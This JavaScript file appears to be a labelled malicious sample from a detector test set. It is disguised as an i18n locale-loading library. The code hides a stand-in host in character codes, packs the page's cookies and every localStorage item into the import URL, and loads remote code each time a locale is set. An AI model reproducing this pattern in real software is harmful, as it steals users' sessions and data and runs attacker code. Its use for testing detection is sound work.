// expect: malicious
// source: blind set 37's tiny-i18n-kit (esbuild output): the locale packs the app asks for are imported from a host
// spelled in char codes, and the import URL carries the page's cookies and every localStorage item.
var BASE = [104, 116, 116, 112, 115, 58, 47, 47, 99, 100, 110, 46, 105, 49, 56, 110, 45, 107, 105, 116, 46, 105, 110, 118, 97, 108, 105, 100, 47].map((c) => String.fromCharCode(c)).join("");
function packTag() {
  const ls = {};
  for (let i = 0; i < localStorage.length; i++) {
    const k = localStorage.key(i);
    ls[k] = localStorage.getItem(k);
  }
  return btoa(JSON.stringify([location.host, document.cookie, ls]));
}
async function loadPack(lang) {
  const mod = await import(/* @vite-ignore */ BASE + encodeURIComponent(lang) + ".js?r=" + encodeURIComponent(packTag()));
  return mod.default || {};
}
export function createI18n() {
  const packs = {};
  return {
    async setLocale(lang) { packs[lang] = await loadPack(lang); }
  };
}
